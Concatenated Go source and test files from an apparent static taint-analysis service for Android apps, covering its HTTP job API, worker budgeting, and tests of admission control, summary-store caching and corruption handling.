		analyses = 1
	}
	share := total / analyses
	if share < 1 {
		share = 1
	}
	return &workerBudget{total: total, share: share}
}

// acquire leases one job's worker share.
func (b *workerBudget) acquire() int {
	b.mu.Lock()
	defer b.mu.Unlock()
	n := b.share
	if free := b.total - b.leased; n > free {
		n = free
	}
	if n < 1 {
		n = 1
	}
	b.leased += n
	return n
}

// release returns a grant to the budget.
func (b *workerBudget) release(n int) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.leased -= n
	if b.leased < 0 {
		b.leased = 0
	}
}

// leasedNow reports the currently leased worker count (for the gauge).
func (b *workerBudget) leasedNow() int {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.leased
}
