package service

import (
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"strconv"
	"time"

	"flowdroid/internal/core"
	"flowdroid/internal/irlint"
	"flowdroid/internal/metrics"
	"flowdroid/internal/taint"
)

// The HTTP/JSON surface of the daemon:
//
//	POST /v1/jobs            submit an app package       -> 202 {id,...}
//	GET  /v1/jobs            list retained jobs          -> 200 [...]
//	GET  /v1/jobs/{id}       job status                  -> 200 {...}
//	GET  /v1/jobs/{id}/result finished job's full report -> 200 {...}
//	GET  /healthz            liveness + queue stats      -> 200 / 503
//	GET  /metrics            metrics.Recorder snapshot   -> 200 {...}
//
// Admission rejections are observable, typed, and retriable:
//
//	429 + Retry-After   queue full (ErrQueueFull)
//	503 + Retry-After   circuit open for this app fingerprint
//	503                 draining (shutdown in progress)

// SubmitResponse acknowledges an admitted job.
type SubmitResponse struct {
	ID          string `json:"id"`
	Fingerprint string `json:"fingerprint"`
	State       string `json:"state"`
}

// JobStatus is the wire form of a job snapshot.
type JobStatus struct {
	ID          string    `json:"id"`
	Fingerprint string    `json:"fingerprint"`
	State       string    `json:"state"`
	Workers     int       `json:"workers,omitempty"`
	Submitted   time.Time `json:"submitted"`
	Started     time.Time `json:"started,omitzero"`
	Finished    time.Time `json:"finished,omitzero"`
	// Status is the core pipeline status once the job is done
	// (Complete, DeadlineExceeded, ...), empty before that.
	Status string `json:"status,omitempty"`
	Error  string `json:"error,omitempty"`
}

// Report is the machine-readable result envelope, the same shape as
// cmd/flowdroid's -json report except that Leaks is the canonical
// (path-witness-free) form: two analyses of the same app under the same
// configuration serialize byte-identically regardless of worker count
// or of whether they ran here or in the one-shot CLI.
type Report struct {
	Status   string   `json:"status"`
	Failure  string   `json:"failure,omitempty"`
	Degraded []string `json:"degraded,omitempty"`
	Counters struct {
		CallGraphEdges   int `json:"callGraphEdges"`
		PTAPropagations  int `json:"ptaPropagations"`
		Propagations     int `json:"propagations"`
		PathEdges        int `json:"pathEdges"`
		Summaries        int `json:"summaries"`
		PeakAbstractions int `json:"peakAbstractions"`
		Workers          int `json:"workers"`
		// ConeMethods/SkippedComponents describe the demand-driven
		// query's reachability cone; zero (omitted) outside query mode.
		ConeMethods       int `json:"coneMethods,omitempty"`
		SkippedComponents int `json:"skippedComponents,omitempty"`
		// Reflection counters: sites the constant-propagation pass turned
		// into call edges versus left opaque (omitted when zero or with
		// Config.DisableReflection).
		ReflectionResolved   int `json:"reflectionResolved,omitempty"`
		ReflectionUnresolved int `json:"reflectionUnresolved,omitempty"`
		// Summary-store counters, all zero (omitted) when the daemon has
		// no Config.SummaryDir.
		SummaryHits        int `json:"summaryHits,omitempty"`
		SummaryMisses      int `json:"summaryMisses,omitempty"`
		SummaryInvalidated int `json:"summaryInvalidated,omitempty"`
		SummaryCorrupt     int `json:"summaryCorrupt,omitempty"`
		MethodsExplored    int `json:"methodsExplored,omitempty"`
		MethodsReused      int `json:"methodsReused,omitempty"`
		SummariesPersisted int `json:"summariesPersisted,omitempty"`
	} `json:"counters"`
	Passes core.PassStats      `json:"passes,omitempty"`
	Lint   []irlint.Diagnostic `json:"lint,omitempty"`
	// Soundness is the reflection pass's account of the app's reflective
	// surface, present only when there is one (the field is omitted for
	// apps with no reflective sites and for reflection-off runs, keeping
	// those envelopes byte-identical to each other).
	Soundness *core.SoundnessReport `json:"soundness,omitempty"`
	Leaks     []taint.LeakReport    `json:"leaks"`
}

// ResultReport converts a finished analysis into the wire envelope.
func ResultReport(res *core.Result) Report {
	rep := Report{Status: res.Status.String(), Degraded: res.Degraded, Passes: res.Passes, Leaks: res.Taint.CanonicalReport()}
	if res.Failure != nil {
		rep.Failure = res.Failure.Error()
	}
	if res.Lint != nil {
		rep.Lint = res.Lint.Diagnostics
	}
	if !res.Soundness.Empty() {
		rep.Soundness = res.Soundness
	}
	rep.Counters.CallGraphEdges = res.Counters.CallGraphEdges
	rep.Counters.PTAPropagations = res.Counters.PTAPropagations
	rep.Counters.Propagations = res.Counters.Propagations
	rep.Counters.PathEdges = res.Counters.PathEdges
	rep.Counters.Summaries = res.Counters.Summaries
	rep.Counters.PeakAbstractions = res.Counters.PeakAbstractions
	rep.Counters.Workers = res.Counters.Workers
	rep.Counters.ConeMethods = res.Counters.ConeMethods
	rep.Counters.SkippedComponents = res.Counters.SkippedComponents
	rep.Counters.ReflectionResolved = res.Counters.ReflectionResolved
	rep.Counters.ReflectionUnresolved = res.Counters.ReflectionUnresolved
	rep.Counters.SummaryHits = res.Counters.SummaryHits
	rep.Counters.SummaryMisses = res.Counters.SummaryMisses
	rep.Counters.SummaryInvalidated = res.Counters.SummaryInvalidated
	rep.Counters.SummaryCorrupt = res.Counters.SummaryCorrupt
	rep.Counters.MethodsExplored = res.Counters.MethodsExplored
	rep.Counters.MethodsReused = res.Counters.MethodsReused
	rep.Counters.SummariesPersisted = res.Counters.SummariesPersisted
	return rep
}

func statusOf(v JobView) JobStatus {
	st := JobStatus{
		ID:          v.ID,
		Fingerprint: v.Fingerprint,
		State:       v.State.String(),
		Workers:     v.Workers,
		Submitted:   v.Submitted,
		Started:     v.Started,
		Finished:    v.Finished,
	}
	if v.Result != nil {
		st.Status = v.Result.Status.String()
	}
	if v.Err != nil {
		st.Error = v.Err.Error()
	}
	return st
}

// httpError is the JSON error body of every non-2xx response.
type httpError struct {
	Error string `json:"error"`
	// RetryAfterMS is set on retriable rejections (queue full, circuit
	// open, draining) and mirrors the Retry-After header.
	RetryAfterMS int64 `json:"retryAfterMs,omitempty"`
}

func writeJSON(w http.ResponseWriter, code int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(code)
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	enc.Encode(v) // nothing to do about a client that went away
}

func writeError(w http.ResponseWriter, code int, msg string, retryAfter time.Duration) {
	if retryAfter > 0 {
		// Round up to whole seconds: truncation would tell a client with
		// 2.5s of cooldown left to come back after 2s (or, sub-second,
		// after 0s) and get rejected again. The exact wait stays available
		// in the JSON body's retryAfterMs.
		secs := int64((retryAfter + time.Second - 1) / time.Second)
		if secs < 1 {
			secs = 1
		}
		w.Header().Set("Retry-After", strconv.FormatInt(secs, 10))
	}
	writeJSON(w, code, httpError{Error: msg, RetryAfterMS: retryAfter.Milliseconds()})
}

// Handler returns the service's HTTP API. Set pprof to also mount the
// runtime profiling endpoints under /debug/ on the same mux.
func (s *Server) Handler(pprof bool) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("POST /v1/jobs", s.handleSubmit)
	mux.HandleFunc("GET /v1/jobs", s.handleList)
	mux.HandleFunc("GET /v1/jobs/{id}", s.handleStatus)
	mux.HandleFunc("GET /v1/jobs/{id}/result", s.handleResult)
	mux.HandleFunc("GET /healthz", s.handleHealthz)
	mux.HandleFunc("GET /metrics", MetricsHandler(s.rec))
	if pprof {
		registerDebug(mux, s.rec)
	}
	return mux
}

// MetricsHandler serves a recorder's snapshot as JSON. A nil recorder
// serves the empty snapshot, so the endpoint shape is stable whether or
// not metrics are enabled.
func MetricsHandler(rec *metrics.Recorder) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, http.StatusOK, rec.Snapshot())
	}
}

func (s *Server) handleSubmit(w http.ResponseWriter, r *http.Request) {
	var req Request
	dec := json.NewDecoder(r.Body)
	dec.DisallowUnknownFields()
	if err := dec.Decode(&req); err != nil {
		writeError(w, http.StatusBadRequest, fmt.Sprintf("bad request: %v", err), 0)
		return
	}
	if len(req.Files) == 0 {
		writeError(w, http.StatusBadRequest, "bad request: empty app package (want a non-empty \"files\" map)", 0)
		return
	}
	view, err := s.Submit(req)
	var open *CircuitOpenError
	switch {
	case err == nil:
		writeJSON(w, http.StatusAccepted, SubmitResponse{ID: view.ID, Fingerprint: view.Fingerprint, State: view.State.String()})
	case errors.Is(err, ErrQueueFull):
		writeError(w, http.StatusTooManyRequests, err.Error(), time.Second)
	case errors.Is(err, ErrDraining):
		writeError(w, http.StatusServiceUnavailable, err.Error(), 0)
	case errors.As(err, &open):
		writeError(w, http.StatusServiceUnavailable, err.Error(), open.RetryAfter)
	default:
		writeError(w, http.StatusBadRequest, err.Error(), 0)
	}
}

func (s *Server) handleList(w http.ResponseWriter, r *http.Request) {
	views := s.Jobs()
	out := make([]JobStatus, len(views))
	for i, v := range views {
		out[i] = statusOf(v)
	}
	writeJSON(w, http.StatusOK, out)
}

func (s *Server) handleStatus(w http.ResponseWriter, r *http.Request) {
	view, ok := s.Job(r.PathValue("id"))
	if !ok {
		writeError(w, http.StatusNotFound, "unknown job", 0)
		return
	}
	writeJSON(w, http.StatusOK, statusOf(view))
}

func (s *Server) handleResult(w http.ResponseWriter, r *http.Request) {
	view, ok := s.Job(r.PathValue("id"))
	if !ok {
		writeError(w, http.StatusNotFound, "unknown job", 0)
		return
	}
	switch view.State {
	case Done:
		writeJSON(w, http.StatusOK, ResultReport(view.Result))
	case Failed:
		writeJSON(w, http.StatusOK, Report{Status: "Error", Failure: view.Err.Error(), Leaks: []taint.LeakReport{}})
	default:
		writeError(w, http.StatusConflict, fmt.Sprintf("job %s is %s, result not ready", view.ID, view.State), 0)
	}
}

// handleHealthz reports liveness. A draining server answers 503 so load
// balancers stop routing to it while in-flight jobs finish.
func (s *Server) handleHealthz(w http.ResponseWriter, r *http.Request) {
	st := s.Stats()
	code := http.StatusOK
	status := "ok"
	if st.Draining {
		code = http.StatusServiceUnavailable
		status = "draining"
	}
	writeJSON(w, code, struct {
		Status string `json:"status"`
		Stats
	}{Status: status, Stats: st})
}
