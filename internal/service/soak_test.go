package service

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"flowdroid/internal/appgen"
	"flowdroid/internal/core"
	"flowdroid/internal/metrics"
)

// TestServiceSoak is the deterministic soak: concurrent clients push a
// generated corpus through the HTTP API against a small queue, so
// admission control, the worker budget, and the drain all get exercised
// under the race detector. Asserted invariants:
//
//   - the queue depth never exceeds its bound;
//   - every 429 the clients saw is matched by the rejection counter
//     (rejections are observable, never silent);
//   - every admitted job completes (fair completion, no starvation);
//   - each job's canonical leak report is byte-identical to a one-shot
//     core run of the same app — resident-service results are
//     indistinguishable from CLI results;
//   - the drain finishes cleanly and leaks no goroutines.
func TestServiceSoak(t *testing.T) {
	goroutinesBefore := runtime.NumGoroutine()

	rec := metrics.New()
	const queueSize = 4
	s := New(Config{
		QueueSize:    queueSize,
		Analyses:     4,
		WorkerBudget: 8,
		Recorder:     rec,
	})
	ts := httptest.NewServer(s.Handler(false))

	apps := append(
		appgen.GenerateCorpus(appgen.Play, 8, 42),
		appgen.GenerateCorpus(appgen.Malware, 8, 43)...)

	const clients = 4
	var (
		rejectsSeen atomic.Int64
		mu          sync.Mutex
		jobOf       = make(map[string]int) // job ID -> apps index
	)
	var wg sync.WaitGroup
	for c := 0; c < clients; c++ {
		wg.Add(1)
		go func(c int) {
			defer wg.Done()
			for i := c; i < len(apps); i += clients {
				body, err := json.Marshal(Request{Files: apps[i].Files})
				if err != nil {
					t.Error(err)
					return
				}
				for {
					resp, err := http.Post(ts.URL+"/v1/jobs", "application/json", bytes.NewReader(body))
					if err != nil {
						t.Error(err)
						return
					}
					if resp.StatusCode == http.StatusTooManyRequests {
						// Queue full: a retriable rejection, never buffered
						// server-side. Back off and resubmit.
						resp.Body.Close()
						rejectsSeen.Add(1)
						time.Sleep(2 * time.Millisecond)
						continue
					}
					if resp.StatusCode != http.StatusAccepted {
						t.Errorf("app %d: submit status %d", i, resp.StatusCode)
						resp.Body.Close()
						return
					}
					var sub SubmitResponse
					err = json.NewDecoder(resp.Body).Decode(&sub)
					resp.Body.Close()
					if err != nil {
						t.Errorf("app %d: %v", i, err)
						return
					}
					mu.Lock()
					jobOf[sub.ID] = i
					mu.Unlock()
					break
				}
			}
		}(c)
	}
	wg.Wait()
	if t.Failed() {
		t.FailNow()
	}
	if len(jobOf) != len(apps) {
		t.Fatalf("submitted %d jobs for %d apps", len(jobOf), len(apps))
	}

	// Fair completion: every admitted job finishes.
	for id := range jobOf {
		v := waitJob(t, s, id)
		if v.State != Done {
			t.Fatalf("job %s: state %v err %v", id, v.State, v.Err)
		}
		if v.Result.Status != core.Complete {
			t.Fatalf("job %s: status %v, want Complete", id, v.Result.Status)
		}
	}

	// Byte-identical canonical reports: fetch each service result over
	// HTTP and compare its leaks against a fresh one-shot run of the
	// same app (what cmd/flowdroid computes). JSON is compacted on both
	// sides to strip the envelope's nesting indentation only — the
	// field order and values must match byte for byte.
	for id, i := range jobOf {
		resp, err := http.Get(ts.URL + "/v1/jobs/" + id + "/result")
		if err != nil {
			t.Fatal(err)
		}
		var rep struct {
			Status string          `json:"status"`
			Leaks  json.RawMessage `json:"leaks"`
		}
		err = json.NewDecoder(resp.Body).Decode(&rep)
		resp.Body.Close()
		if err != nil {
			t.Fatalf("job %s: %v", id, err)
		}

		opts := core.DefaultOptions()
		opts.Taint.Workers = runtime.GOMAXPROCS(0)
		oneShot, err := core.AnalyzeFiles(context.Background(), apps[i].Files, opts)
		if err != nil {
			t.Fatalf("one-shot %s: %v", apps[i].Name, err)
		}
		want, err := oneShot.Taint.CanonicalJSON()
		if err != nil {
			t.Fatal(err)
		}
		var gotC, wantC bytes.Buffer
		if err := json.Compact(&gotC, rep.Leaks); err != nil {
			t.Fatalf("job %s leaks: %v", id, err)
		}
		if err := json.Compact(&wantC, want); err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(gotC.Bytes(), wantC.Bytes()) {
			t.Fatalf("app %s: service report differs from one-shot run\nservice: %s\none-shot: %s",
				apps[i].Name, gotC.Bytes(), wantC.Bytes())
		}
	}

	// Clean drain, then the invariants the counters carry.
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	if err := s.Shutdown(ctx); err != nil {
		t.Fatalf("drain: %v", err)
	}
	ts.Close()
	http.DefaultClient.CloseIdleConnections()

	snap := rec.Snapshot()
	if peak := snap.Schedule["service.queue.depth.peak"]; peak > queueSize {
		t.Fatalf("queue depth peak %d exceeds the bound %d", peak, queueSize)
	}
	if got, want := snap.Schedule["service.rejected.queue_full"], rejectsSeen.Load(); got != want {
		t.Fatalf("rejection counter %d, clients saw %d 429s", got, want)
	}
	if got := snap.Schedule["service.completed"]; got != int64(len(apps)) {
		t.Fatalf("service.completed = %d, want %d", got, len(apps))
	}
	if got := snap.Schedule["service.failed"]; got != 0 {
		t.Fatalf("service.failed = %d, want 0", got)
	}

	// Zero leaked goroutines: everything the soak started — executors,
	// HTTP serving, client keep-alives — winds down.
	deadline := time.Now().Add(10 * time.Second)
	for {
		if n := runtime.NumGoroutine(); n <= goroutinesBefore {
			break
		}
		if time.Now().After(deadline) {
			buf := make([]byte, 1<<20)
			t.Fatalf("goroutine leak: %d before soak, %d after\n%s",
				goroutinesBefore, runtime.NumGoroutine(), buf[:runtime.Stack(buf, true)])
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// submitAndWait pushes one app through the HTTP API and returns its
// canonical leak report (JSON-compacted) once the job is done.
func submitAndWait(t *testing.T, ts *httptest.Server, s *Server, files map[string]string) []byte {
	t.Helper()
	body, err := json.Marshal(Request{Files: files})
	if err != nil {
		t.Fatal(err)
	}
	resp, err := http.Post(ts.URL+"/v1/jobs", "application/json", bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusAccepted {
		resp.Body.Close()
		t.Fatalf("submit status %d", resp.StatusCode)
	}
	var sub SubmitResponse
	err = json.NewDecoder(resp.Body).Decode(&sub)
	resp.Body.Close()
	if err != nil {
		t.Fatal(err)
	}
	v := waitJob(t, s, sub.ID)
	if v.State != Done {
		t.Fatalf("job %s: state %v err %v", sub.ID, v.State, v.Err)
	}
	if v.Result.Status != core.Complete {
		t.Fatalf("job %s: status %v, want Complete", sub.ID, v.Result.Status)
	}
	rresp, err := http.Get(ts.URL + "/v1/jobs/" + sub.ID + "/result")
	if err != nil {
		t.Fatal(err)
	}
	var rep struct {
		Leaks json.RawMessage `json:"leaks"`
	}
	err = json.NewDecoder(rresp.Body).Decode(&rep)
	rresp.Body.Close()
	if err != nil {
		t.Fatal(err)
	}
	var compact bytes.Buffer
	if err := json.Compact(&compact, rep.Leaks); err != nil {
		t.Fatal(err)
	}
	return compact.Bytes()
}

// oneShotLeaks is the oracle: a store-less one-shot core run's canonical
// leaks, compacted the same way the service endpoint's are.
func oneShotLeaks(t *testing.T, files map[string]string) []byte {
	t.Helper()
	res, err := core.AnalyzeFiles(context.Background(), files, core.DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	want, err := res.Taint.CanonicalJSON()
	if err != nil {
		t.Fatal(err)
	}
	var compact bytes.Buffer
	if err := json.Compact(&compact, want); err != nil {
		t.Fatal(err)
	}
	return compact.Bytes()
}

// TestServiceWarmResubmit models the daemon's warm re-analysis path: a
// corpus is submitted cold into a per-daemon summary store, then every
// app is resubmitted with a simulated update (2% of methods mutated).
// At every worker budget the warm results must be byte-identical to a
// store-less cold run of the updated app, and the daemon's metrics must
// show the store actually served summaries.
func TestServiceWarmResubmit(t *testing.T) {
	apps := appgen.GenerateCorpus(appgen.Play, 4, 7)
	updated := make([]map[string]string, len(apps))
	for i, app := range apps {
		files, n := appgen.MutateMethods(app.Files, 0.02, int64(i)+2)
		if n == 0 {
			t.Fatalf("app %s: mutation changed nothing", app.Name)
		}
		updated[i] = files
	}
	want := make([][]byte, len(apps))
	for i := range apps {
		want[i] = oneShotLeaks(t, updated[i])
	}

	for _, budget := range []int{1, 2, 8} {
		t.Run(fmt.Sprintf("workers=%d", budget), func(t *testing.T) {
			rec := metrics.New()
			s := New(Config{
				QueueSize:    16,
				Analyses:     2,
				WorkerBudget: budget,
				Recorder:     rec,
				SummaryDir:   t.TempDir(),
			})
			ts := httptest.NewServer(s.Handler(false))
			defer ts.Close()

			for i := range apps {
				submitAndWait(t, ts, s, apps[i].Files)
				if got := submitAndWait(t, ts, s, updated[i]); !bytes.Equal(got, want[i]) {
					t.Fatalf("app %s: warm resubmission report differs from cold run\nwarm: %s\ncold: %s",
						apps[i].Name, got, want[i])
				}
			}

			snap := rec.Snapshot()
			if snap.Deterministic["summary.store.hit"] == 0 {
				t.Fatal("resubmissions never hit the daemon's summary store")
			}
			ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
			defer cancel()
			if err := s.Shutdown(ctx); err != nil {
				t.Fatalf("drain: %v", err)
			}
		})
	}
}

// TestServiceWarmStoreCorruption damages every stored summary file —
// cycling through a bit flip, a truncation, and a format-version rewrite
// — between a cold round and a resubmission round. Every damaged entry
// must degrade to a miss: the jobs still complete and their reports stay
// byte-identical to a store-less run, with the corruption visible only
// in the metrics.
func TestServiceWarmStoreCorruption(t *testing.T) {
	apps := appgen.GenerateCorpus(appgen.Play, 3, 11)
	dir := t.TempDir()

	cold := New(Config{QueueSize: 8, Analyses: 1, WorkerBudget: 2, SummaryDir: dir})
	tsCold := httptest.NewServer(cold.Handler(false))
	for i := range apps {
		submitAndWait(t, tsCold, cold, apps[i].Files)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if err := cold.Shutdown(ctx); err != nil {
		t.Fatalf("cold drain: %v", err)
	}
	tsCold.Close()

	n := 0
	err := filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() || !strings.HasSuffix(path, ".sum") {
			return err
		}
		data, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		switch n % 3 {
		case 0:
			data[0] ^= 0xff // bit flip: unparseable JSON
		case 1:
			data = data[:len(data)/2] // truncation
		case 2:
			data = bytes.Replace(data, []byte(`"formatVersion": 1`), []byte(`"formatVersion": 99`), 1)
		}
		n++
		return os.WriteFile(path, data, 0o644)
	})
	if err != nil {
		t.Fatal(err)
	}
	if n == 0 {
		t.Fatal("cold round left no summary files to corrupt")
	}

	rec := metrics.New()
	warm := New(Config{QueueSize: 8, Analyses: 1, WorkerBudget: 2, SummaryDir: dir, Recorder: rec})
	tsWarm := httptest.NewServer(warm.Handler(false))
	defer tsWarm.Close()
	for i := range apps {
		got := submitAndWait(t, tsWarm, warm, apps[i].Files)
		if want := oneShotLeaks(t, apps[i].Files); !bytes.Equal(got, want) {
			t.Fatalf("app %s: report over corrupted store differs from store-less run\ngot: %s\nwant: %s",
				apps[i].Name, got, want)
		}
	}

	snap := rec.Snapshot()
	if snap.Deterministic["summary.store.corrupt"] == 0 {
		t.Fatal("corrupted entries were not observed as corrupt")
	}
	if snap.Deterministic["summary.store.hit"] != 0 {
		t.Fatalf("corrupted store produced %d hits", snap.Deterministic["summary.store.hit"])
	}
	wctx, wcancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer wcancel()
	if err := warm.Shutdown(wctx); err != nil {
		t.Fatalf("warm drain: %v", err)
	}
}

// TestServiceCarrierToggleInvalidatesStore: the string-carrier flag is
// part of the summary-store configuration fingerprint, so a daemon
// running with carriers disabled must not replay summaries recorded by a
// carriers-on daemon sharing the same store directory. Toggling degrades
// to a clean cold run (same report, zero hits), while resubmission under
// the unchanged mode still re-analyzes warm.
func TestServiceCarrierToggleInvalidatesStore(t *testing.T) {
	app := appgen.GenerateCorpus(appgen.Play, 1, 13)[0]
	dir := t.TempDir()

	// Round 1: cold, carriers on (the default), populating the store.
	on := New(Config{QueueSize: 8, Analyses: 1, WorkerBudget: 2, SummaryDir: dir})
	tsOn := httptest.NewServer(on.Handler(false))
	want := submitAndWait(t, tsOn, on, app.Files)
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if err := on.Shutdown(ctx); err != nil {
		t.Fatalf("drain: %v", err)
	}
	tsOn.Close()

	// Round 2: carriers off, same store. The fingerprints differ, so the
	// submission must run fully cold (zero hits) yet report the same
	// leaks — the carrier fast path is report-neutral.
	rec := metrics.New()
	off := New(Config{QueueSize: 8, Analyses: 1, WorkerBudget: 2, SummaryDir: dir,
		DisableStringCarriers: true, Recorder: rec})
	tsOff := httptest.NewServer(off.Handler(false))
	defer tsOff.Close()
	if got := submitAndWait(t, tsOff, off, app.Files); !bytes.Equal(got, want) {
		t.Fatalf("carriers-off report differs from carriers-on:\n%s\nvs\n%s", got, want)
	}
	if hits := rec.Snapshot().Deterministic["summary.store.hit"]; hits != 0 {
		t.Fatalf("carriers-off run replayed %d carriers-on summaries; the fingerprint failed to invalidate", hits)
	}

	// Round 3: resubmit in the unchanged mode — now the store must serve.
	if got := submitAndWait(t, tsOff, off, app.Files); !bytes.Equal(got, want) {
		t.Fatal("warm carriers-off resubmission report differs from the cold run")
	}
	if rec.Snapshot().Deterministic["summary.store.hit"] == 0 {
		t.Fatal("same-mode resubmission never hit the store")
	}
	ctx2, cancel2 := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel2()
	if err := off.Shutdown(ctx2); err != nil {
		t.Fatalf("drain: %v", err)
	}
}

// TestServiceReflectionToggleInvalidatesStore mirrors the carrier-toggle
// test for the reflection flag: core.Options.ResolveReflection changes
// which call edges exist, so it is part of the summary-store config
// fingerprint and a reflection-off daemon must not replay summaries a
// reflection-on daemon recorded into the same store directory. On an app
// with no reflective sites the two modes' reports are byte-identical
// (the soundness envelope field is omitted when empty), which is exactly
// what lets this test compare them.
func TestServiceReflectionToggleInvalidatesStore(t *testing.T) {
	app := appgen.GenerateCorpus(appgen.Play, 1, 29)[0]
	dir := t.TempDir()

	// Round 1: cold, reflection on (the default), populating the store.
	on := New(Config{QueueSize: 8, Analyses: 1, WorkerBudget: 2, SummaryDir: dir})
	tsOn := httptest.NewServer(on.Handler(false))
	want := submitAndWait(t, tsOn, on, app.Files)
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if err := on.Shutdown(ctx); err != nil {
		t.Fatalf("drain: %v", err)
	}
	tsOn.Close()

	// Round 2: reflection off, same store. The fingerprints differ, so
	// the submission must run fully cold (zero hits) yet report the same
	// leaks — this app has no reflective sites for the pass to matter on.
	rec := metrics.New()
	off := New(Config{QueueSize: 8, Analyses: 1, WorkerBudget: 2, SummaryDir: dir,
		DisableReflection: true, Recorder: rec})
	tsOff := httptest.NewServer(off.Handler(false))
	defer tsOff.Close()
	if got := submitAndWait(t, tsOff, off, app.Files); !bytes.Equal(got, want) {
		t.Fatalf("reflection-off report differs from reflection-on:\n%s\nvs\n%s", got, want)
	}
	if hits := rec.Snapshot().Deterministic["summary.store.hit"]; hits != 0 {
		t.Fatalf("reflection-off run replayed %d reflection-on summaries; the fingerprint failed to invalidate", hits)
	}

	// Round 3: resubmit in the unchanged mode — now the store must serve.
	if got := submitAndWait(t, tsOff, off, app.Files); !bytes.Equal(got, want) {
		t.Fatal("warm reflection-off resubmission report differs from the cold run")
	}
	if rec.Snapshot().Deterministic["summary.store.hit"] == 0 {
		t.Fatal("same-mode resubmission never hit the store")
	}
	ctx2, cancel2 := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel2()
	if err := off.Shutdown(ctx2); err != nil {
		t.Fatalf("drain: %v", err)
	}
}
