package service

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"runtime"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"flowdroid/internal/appgen"
	"flowdroid/internal/core"
	"flowdroid/internal/metrics"
)

// TestServiceSoak is the deterministic soak: concurrent clients push a
// generated corpus through the HTTP API against a small queue, so
// admission control, the worker budget, and the drain all get exercised
// under the race detector. Asserted invariants:
//
//   - the queue depth never exceeds its bound;
//   - every 429 the clients saw is matched by the rejection counter
//     (rejections are observable, never silent);
//   - every admitted job completes (fair completion, no starvation);
//   - each job's canonical leak report is byte-identical to a one-shot
//     core run of the same app — resident-service results are
//     indistinguishable from CLI results;
//   - the drain finishes cleanly and leaks no goroutines.
func TestServiceSoak(t *testing.T) {
	goroutinesBefore := runtime.NumGoroutine()

	rec := metrics.New()
	const queueSize = 4
	s := New(Config{
		QueueSize:    queueSize,
		Analyses:     4,
		WorkerBudget: 8,
		Recorder:     rec,
	})
	ts := httptest.NewServer(s.Handler(false))

	apps := append(
		appgen.GenerateCorpus(appgen.Play, 8, 42),
		appgen.GenerateCorpus(appgen.Malware, 8, 43)...)

	const clients = 4
	var (
		rejectsSeen atomic.Int64
		mu          sync.Mutex
		jobOf       = make(map[string]int) // job ID -> apps index
	)
	var wg sync.WaitGroup
	for c := 0; c < clients; c++ {
		wg.Add(1)
		go func(c int) {
			defer wg.Done()
			for i := c; i < len(apps); i += clients {
				body, err := json.Marshal(Request{Files: apps[i].Files})
				if err != nil {
					t.Error(err)
					return
				}
				for {
					resp, err := http.Post(ts.URL+"/v1/jobs", "application/json", bytes.NewReader(body))
					if err != nil {
						t.Error(err)
						return
					}
					if resp.StatusCode == http.StatusTooManyRequests {
						// Queue full: a retriable rejection, never buffered
						// server-side. Back off and resubmit.
						resp.Body.Close()
						rejectsSeen.Add(1)
						time.Sleep(2 * time.Millisecond)
						continue
					}
					if resp.StatusCode != http.StatusAccepted {
						t.Errorf("app %d: submit status %d", i, resp.StatusCode)
						resp.Body.Close()
						return
					}
					var sub SubmitResponse
					err = json.NewDecoder(resp.Body).Decode(&sub)
					resp.Body.Close()
					if err != nil {
						t.Errorf("app %d: %v", i, err)
						return
					}
					mu.Lock()
					jobOf[sub.ID] = i
					mu.Unlock()
					break
				}
			}
		}(c)
	}
	wg.Wait()
	if t.Failed() {
		t.FailNow()
	}
	if len(jobOf) != len(apps) {
		t.Fatalf("submitted %d jobs for %d apps", len(jobOf), len(apps))
	}

	// Fair completion: every admitted job finishes.
	for id := range jobOf {
		v := waitJob(t, s, id)
		if v.State != Done {
			t.Fatalf("job %s: state %v err %v", id, v.State, v.Err)
		}
		if v.Result.Status != core.Complete {
			t.Fatalf("job %s: status %v, want Complete", id, v.Result.Status)
		}
	}

	// Byte-identical canonical reports: fetch each service result over
	// HTTP and compare its leaks against a fresh one-shot run of the
	// same app (what cmd/flowdroid computes). JSON is compacted on both
	// sides to strip the envelope's nesting indentation only — the
	// field order and values must match byte for byte.
	for id, i := range jobOf {
		resp, err := http.Get(ts.URL + "/v1/jobs/" + id + "/result")
		if err != nil {
			t.Fatal(err)
		}
		var rep struct {
			Status string          `json:"status"`
			Leaks  json.RawMessage `json:"leaks"`
		}
		err = json.NewDecoder(resp.Body).Decode(&rep)
		resp.Body.Close()
		if err != nil {
			t.Fatalf("job %s: %v", id, err)
		}

		opts := core.DefaultOptions()
		opts.Taint.Workers = runtime.GOMAXPROCS(0)
		oneShot, err := core.AnalyzeFiles(context.Background(), apps[i].Files, opts)
		if err != nil {
			t.Fatalf("one-shot %s: %v", apps[i].Name, err)
		}
		want, err := oneShot.Taint.CanonicalJSON()
		if err != nil {
			t.Fatal(err)
		}
		var gotC, wantC bytes.Buffer
		if err := json.Compact(&gotC, rep.Leaks); err != nil {
